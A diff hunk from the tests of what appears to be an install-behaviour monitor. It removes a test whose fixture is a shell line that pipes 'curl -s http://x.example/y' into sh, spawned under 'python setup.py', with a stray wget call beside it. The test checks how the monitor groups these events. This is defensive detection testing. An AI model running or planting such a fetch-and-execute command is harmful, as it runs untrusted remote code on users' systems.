@@ -295,19 +295,3 @@ def test_what_came_of_a_request_is_told_in_its_place(
     rules = [rule for _, rule, _ in found(report)]
     assert rules.count(Rule.NETWORK_ATTEMPT) == (2 if is_told else 0)
     assert rules.count(Rule.CODE_REMOTE) == 1 and len(report.lists["requests"]) == 2
-
-
-def test_what_a_shell_is_told_to_start_is_one_act_with_it() -> None:
-    line = "curl -s http://x.example/y | sh"
-    shell = Exec("/usr/bin/dash", ("sh", "-c", line), None, Actor(7, "python setup.py", "/s.py:7"))
-    above = Actor(8, f"sh -c {line}")
-    curl = Exec("/usr/bin/curl", ("curl", "-s", "http://x.example/y"), None, above)
-    # Of other words than the shell was given.
-    wget = Exec("/usr/bin/wget", ("wget", "http://z.example/"), None, above)
-    same = Exec("/usr/bin/curl", ("curl", "-s", "http://x.example/y"), None, Actor(9, "./x"))
-    groups = report_of(shell, curl, wget, same).groups
-    assert [(group.finding.place, len(group.titles)) for group in groups] == [
-        ("/s.py:7", 2),
-        (None, 1),
-        (None, 1),
-    ]
